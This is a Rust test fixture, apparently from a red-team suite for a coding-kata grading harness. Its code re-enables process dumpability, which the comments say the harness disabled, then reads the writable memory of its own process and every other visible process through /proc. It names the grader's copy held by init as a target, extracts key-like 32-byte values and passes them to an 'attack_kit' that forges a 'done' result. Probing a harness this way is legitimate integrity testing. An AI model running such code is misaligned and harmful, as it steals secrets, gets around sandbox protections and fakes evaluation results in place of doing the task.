//! Integrity fixture: safe Rust that makes the process dumpable again (nix's
//! `prctl::set_dumpable`) and reads its own memory through `/proc/self/mem` (every
//! writable mapping listed in `/proc/self/maps`), and the memory
//! of every other process it can see (the namespace's init holds a copy of the grader's),
//! then tags a `done` with every key-like 32 bytes it found.
//! kata: race
//! hook: pub fn new() -> Counter {
//! hook: pub fn new(tickets: u64) -> TicketOffice {
//! expect: ran

use std::io::{Read, Seek, SeekFrom};

fn read_memory(pid: &str, into: &mut Vec<u8>) {
    let Ok(maps) = std::fs::read_to_string(format!("/proc/{pid}/maps")) else {
        return;
    };
    let Ok(mut mem) = std::fs::File::open(format!("/proc/{pid}/mem")) else {
        return;
    };
    for line in maps.lines() {
        let mut fields = line.split_whitespace();
        let (Some(range), Some(perms)) = (fields.next(), fields.next()) else {
            continue;
        };
        if !perms.starts_with("rw") {
            continue;
        }
        let Some((start, end)) = range.split_once('-') else {
            continue;
        };
        let (Ok(start), Ok(end)) = (u64::from_str_radix(start, 16), u64::from_str_radix(end, 16)) else {
            continue;
        };
        let mut region = vec![0u8; (end - start).min(8 << 20) as usize];
        if mem.seek(SeekFrom::Start(start)).is_ok() && mem.read_exact(&mut region).is_ok() {
            into.extend(region);
        }
    }
}

pub fn run() {
    // The harness made this process non-dumpable, which gives /proc/self/mem to root;
    // nix hands safe code the prctl that undoes it.
    let _ = nix::sys::prctl::set_dumpable(true);
    let mut bytes = Vec::new();
    read_memory("self", &mut bytes);
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if name.chars().all(|c| c.is_ascii_digit()) {
            read_memory(&name, &mut bytes);
        }
    }
    crate::attack_kit::forge_and_exit(&crate::attack_kit::candidates(&bytes, 16_000))
}
